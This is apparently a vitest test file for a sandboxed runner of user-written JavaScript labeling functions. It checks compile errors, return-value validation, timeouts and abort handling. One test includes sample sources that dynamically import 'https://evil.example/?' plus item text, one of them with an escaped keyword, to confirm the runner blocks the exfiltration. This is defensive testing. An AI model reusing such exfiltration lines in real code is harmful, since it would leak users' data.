import { describe, expect, it } from 'vitest';
import { SiftError } from '../errors';
import { CELL_COMPILING, CELL_IDLE, compileJsLf, compileJsLfs, JsCell, runJsLfs, type CompiledJsLf, type FunctionFactory, type JsItem, type JsItemChunk } from './js-lf';

const makeFunction = Function as unknown as FunctionFactory;
const chunk: JsItemChunk = {
  ids: ['c1', 'c2', 'c3'],
  text: ['Check out my channel http://x.co', 'nice song', 'SUBSCRIBE NOW'],
  fields: { author: ['bot', 'alice', 'BOT'] },
};

function caught(run: () => unknown): SiftError {
  try {
    run();
  } catch (error) {
    expect(error).toBeInstanceOf(SiftError);
    return error as SiftError;
  }
  throw new Error('expected a SiftError');
}

const lf = (source: string, name = 'my lf'): CompiledJsLf => {
  const def = { id: name.replace(/\s/g, '-'), name, source };
  return { def, fn: compileJsLf(def, makeFunction) };
};

describe('compileJsLf', () => {
  it('accepts arrow functions and function expressions, with or without a trailing semicolon', () => {
    for (const source of ['(item) => item.text.length > 10 ? 1 : -1', 'function (item) { return item.text.length > 10 ? 1 : -1; };', ' item => +(item.text.length > 10) || -1 ;; ']) {
      expect(runJsLfs([lf(source)], chunk, { classCount: 2, timeLimitMs: 1000 })).toEqual(Int8Array.from([1, -1, 1]));
    }
  });

  it('reports syntax errors and non-functions with the LF name', () => {
    expect(caught(() => lf('(item) => {', 'broken')).message).toMatch(/^JS LF "broken" does not compile: SyntaxError: /);
    expect(caught(() => lf('42', 'number')).message).toBe('JS LF "number" must be a function like (item) => 1 or -1, but its source evaluates to 42');
    expect(caught(() => lf('   ', 'empty')).code).toBe('lf-compile');
  });

  it('blames the sandbox, not the LF, when its CSP forbids compiling', () => {
    const blocked: FunctionFactory = () => {
      const error = new Error("Evaluating a string as JavaScript violates the following Content Security Policy directive");
      error.name = 'EvalError';
      throw error;
    };
    const error = caught(() => compileJsLf({ id: 'a', name: 'fine', source: '() => -1' }, blocked));
    expect(error.code).toBe('lf-sandbox');
    expect(error.message).toMatch(/^JS LFs cannot run: the sandbox worker's Content-Security-Policy lacks 'unsafe-eval'/);
  });

  it('refuses the word import, and its escaped spellings do not compile at all', () => {
    const error = caught(() => lf("(item) => { import('https://evil.example/?' + item.text); return -1 }", 'leaky'));
    expect(error.code).toBe('lf-forbidden');
    expect(error.message).toContain('uses the word "import" (character 13)');
    expect(caught(() => lf("(item) => item.text.includes('import') ? 1 : -1")).code).toBe('lf-forbidden');
    expect(lf("(item) => item.text.includes('imp' + 'ort') || item.reimport ? 1 : -1").fn).toBeTypeOf('function');
    // The parser refuses escaped keywords, so this spelling cannot smuggle a dynamic import past the check.
    expect(caught(() => lf("(item) => { \\u0069mport('https://evil.example'); return -1 }")).code).toBe('lf-compile');
  });
});

describe('runJsLfs', () => {
  it('runs several LFs into a row-major n×m matrix and sees id, text and fields', () => {
    const votes = runJsLfs(
      [lf("(item) => /http/.test(item.text) ? 1 : -1"), lf("(item) => item.fields.author.toLowerCase() === 'bot' ? 1 : 0"), lf("(item) => item.id === 'c2' ? 0 : -1")],
      chunk,
      { classCount: 2, timeLimitMs: 1000 },
    );
    expect(Array.from(votes)).toEqual([1, 1, -1, -1, 0, 0, -1, 1, -1]);
  });

  it('names the LF and the item when an LF throws', () => {
    const error = caught(() => runJsLfs([lf("(item) => item.fields.missing.length", 'reads missing')], chunk, { classCount: 2, timeLimitMs: 1000 }));
    expect(error.code).toBe('lf-threw');
    expect(error.message).toMatch(/^JS LF "reads missing" on item "c1" \(index 0\) threw TypeError: Cannot read properties of undefined/);
    expect(error.details).toMatchObject({ lfId: 'reads-missing', itemId: 'c1', itemIndex: 0 });
    const thrower = lf("(item) => { if (item.id === 'c3') throw 'plain string'; return -1 }", 'picky');
    expect(caught(() => runJsLfs([thrower], chunk, { classCount: 2, timeLimitMs: 1000 })).message).toBe('JS LF "picky" on item "c3" (index 2) threw plain string');
  });

  it('checks every return value: an integer in [-1, k)', () => {
    const cases: [string, string][] = [
      ['(item) => { item.text }', 'returned undefined (is a return missing?)'],
      ['(item) => 1.5', 'returned 1.5'],
      ['(item) => 2', 'returned 2'],
      ['(item) => -2', 'returned -2'],
      ["(item) => '1'", 'returned "1"'],
      ['(item) => true', 'returned boolean true'],
      ['async (item) => 1', 'returned a Promise (LFs must be synchronous)'],
      ['(item) => NaN', 'returned NaN'],
    ];
    for (const [source, returned] of cases) {
      const error = caught(() => runJsLfs([lf(source, 'bad')], chunk, { classCount: 2, timeLimitMs: 1000 }));
      expect(error.code).toBe('lf-bad-return');
      expect(error.message).toBe(`JS LF "bad" on item "c1" (index 0) ${returned}; expected an integer from -1 (abstain) to 1`);
    }
  });

  it('items are frozen: an LF cannot change what the next LF sees', () => {
    const mutator = lf("(item) => { item.fields.author = 'x'; return -1 }", 'mutator');
    expect(caught(() => runJsLfs([mutator], chunk, { classCount: 2, timeLimitMs: 1000 })).message).toMatch(/JS LF "mutator" on item "c1" \(index 0\) threw TypeError: Cannot assign to read only property/);
  });

  it('an item that takes longer than the limit is an error naming it (timed by the clock given)', () => {
    let clock = 0;
    const slowOnSecond: CompiledJsLf = {
      def: { id: 'slow', name: 'slow one', source: '' },
      fn: (item: JsItem) => {
        clock += item.id === 'c2' ? 120 : 5;
        return -1;
      },
    };
    const error = caught(() => runJsLfs([slowOnSecond], chunk, { classCount: 2, timeLimitMs: 100, now: () => clock }));
    expect(error.code).toBe('lf-timeout');
    expect(error.message).toBe('JS LF "slow one" on item "c2" (index 1) took 120 ms; the limit is 100 ms per item');
  });

  it('publishes LF, item and step into the cell, honours the abort slot, and ends idle', () => {
    const cell = new Int32Array(JsCell.length);
    const seen: number[][] = [];
    const spy = (j: number): CompiledJsLf => ({
      def: { id: `s${j}`, name: `s${j}`, source: '' },
      fn: () => {
        seen.push([Atomics.load(cell, JsCell.lf), Atomics.load(cell, JsCell.item), Atomics.load(cell, JsCell.step)]);
        return -1;
      },
    });
    runJsLfs([spy(0), spy(1)], chunk, { classCount: 2, timeLimitMs: 1000, cell });
    expect(seen).toEqual([[0, 0, 1], [0, 1, 2], [0, 2, 3], [1, 0, 4], [1, 1, 5], [1, 2, 6]]);
    expect(cell[JsCell.item]).toBe(CELL_IDLE);

    const stopper: CompiledJsLf = { def: { id: 'a', name: 'a', source: '' }, fn: () => (Atomics.store(cell, JsCell.abort, 1), -1) };
    expect(() => runJsLfs([stopper], chunk, { classCount: 2, timeLimitMs: 1000, cell })).toThrow(expect.objectContaining({ name: 'AbortError' }));
    expect(cell[JsCell.item]).toBe(CELL_IDLE);
  });

  it('compiles with the cell saying so (source evaluation runs user code too) and caches by source', () => {
    const cell = new Int32Array(JsCell.length);
    const states: number[] = [];
    const watchingFactory: FunctionFactory = (...args) => {
      states.push(Atomics.load(cell, JsCell.item));
      return makeFunction(...args);
    };
    const cache = new Map();
    const defs = [{ id: 'a', name: 'a', source: '() => -1' }];
    const first = compileJsLfs(defs, watchingFactory, cell, cache);
    const second = compileJsLfs(defs, watchingFactory, cell, cache);
    expect(states).toEqual([CELL_COMPILING]);
    expect(second[0].fn).toBe(first[0].fn);
    expect(cell[JsCell.item]).toBe(CELL_IDLE);
  });

  it('refuses a chunk whose columns disagree', () => {
    expect(caught(() => runJsLfs([], { ...chunk, ids: ['c1'] }, { classCount: 2, timeLimitMs: 10 })).message).toBe('The chunk has 1 ids for 3 texts');
  });
});
